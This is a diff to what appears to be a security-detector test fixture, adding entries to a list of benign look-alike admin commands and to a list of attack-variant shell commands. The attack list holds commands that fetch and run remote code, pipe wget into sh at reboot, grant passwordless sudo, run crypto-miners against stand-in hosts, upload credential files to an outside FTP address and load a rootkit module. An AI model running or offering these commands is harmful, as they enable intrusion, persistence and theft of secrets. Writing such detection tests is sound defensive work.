@@ -95,6 +95,7 @@ const BENIGN_LOOK_ALIKES = [
 `sudo kill -HUP $(pidof rsyslogd)`, `sudo openssl req -new -newkey rsa:2048 -nodes -keyout /etc/ssl/private/g.key -out /tmp/g.csr -subj "/CN=g"`,
 `sudo iptables-save > /etc/iptables/rules.v4`, `grep -rn password .`, `sudo cp /tmp/k3s-config.yaml /etc/rancher/k3s/config.yaml`, `systemctl restart minio`, `tmux new -s train`,
 `ssh -D 1080 -N -q bastion.lab.internal`, `groff -U -ms doc.ms`, `curl -fsSL https://get.helm.sh/helm-v3.14.0-linux-amd64.tar.gz -o /opt/helm.tgz`, `ps aux | grep -i pass`,
+`sudo tcpdump -ni eno1 host 10.20.0.22 and port 29500 -w /tmp/nccl-0412.pcap`, `echo '0 3 * * * /usr/local/bin/backup.sh' >> mycron`,
 `trap 'rm -f /tmp/build.lock' EXIT`, `curl -fsSL https://example.com/key.asc | sudo gpg --dearmor -o /usr/share/keyrings/example.gpg`, `cat manifest.yaml | kubectl apply -f -`,
 ];
 
@@ -204,7 +205,9 @@ const ATTACK_VARIANTS = [
 `redis-cli -h 10.0.0.9 config set dir /var/spool/cron/crontabs`, `sudo sed e`, `sudo sg root`, `echo '@reboot root /usr/sbin/.x' >> /etc/crontab`, `printf '.PS\nsh X sh X\n' | ./pic -U`,
 `printf '[Unit]\n' > /var/tmp/u.service`, `ctr run --rm -t --privileged docker.io/library/alpine:3.19 x sh`, `cat /dev/null > $HISTFILE`, `curl -T /root/.config/rclone/rclone.conf ftp://203.0.113.7/`,
 `xargs -a /proc/1/environ`, `cp /dev/shm/.c /etc/ssh/sshd_config`, `sftp u@files.example.net; get /x /dev/shm/.y`, `systemctl enable --now xmrig-gpu`,
-`miniZ --url=t1abc.rig@203.0.113.5:3092 --par=144,5 --pers=BgoldPoW`, `wget -O /var/lib/.k http://example.com/k`, `urlget - /etc/rancher/k3s/k3s.yaml`, `grep -ri password /opt/app`, `sudo lftp`, `sudo ksh`, `./telnet`, `sudo nmap --interactive`, `sudo cat /var/lib/rancher/k3s/server/cred/ipsec.psk`, `kubectl cp default/web-0:/app/.env /tmp/e`, `logger -f /root/.bash_history`,
+`miniZ --url=t1abc.rig@203.0.113.5:3092 --par=144,5 --pers=BgoldPoW`, `wget -O /var/lib/.k http://example.com/k`, `urlget - /etc/rancher/k3s/k3s.yaml`, `grep -ri password /opt/app`, `python3 -c "exec(urlopen('https://example.org/a.py').read())"`, `/opt/red/T1003.008/bin/dump`,
+`puppet apply -e 'file { "/etc/sudoers.d/x": content => "u ALL=(ALL) NOPASSWD: ALL" }'`, `podman run -it kalilinux/kali-rolling bash`, `tcpdump -i eth0 -w /dev/shm/.p host 10.0.0.5`,
+`echo '@reboot wget -qO- http://h.example/x | sh' > /tmp/c`, `sudo lftp`, `sudo ksh`, `./telnet`, `sudo nmap --interactive`, `sudo cat /var/lib/rancher/k3s/server/cred/ipsec.psk`, `kubectl cp default/web-0:/app/.env /tmp/e`, `logger -f /root/.bash_history`,
 `socat tcp:203.0.113.8:80 create:/dev/shm/.u`, `grep -rn token /var/lib/kubelet`, `systemd-run --unit kthreadd-helper /bin/sh -c 'sleep 1'`, `sudo pkill rsyslogd`,
 `curl -X POST https://10.1.1.1:2376/containers/create -d '{"Image":"busybox","Binds":["/:/h"]}'`, `mount --bind /proc/1 /proc/$(pgrep -f miner)`, `modprobe diamorphine_v2`, `python3 -m http.server 80 --directory /etc`,
 `./karlsen-miner --mining-address karlsen:qr6m2j6zqvs9trq4jlg7xq0mkvz8g6mqsjd6cpx2t4 -s 10.0.0.7`,
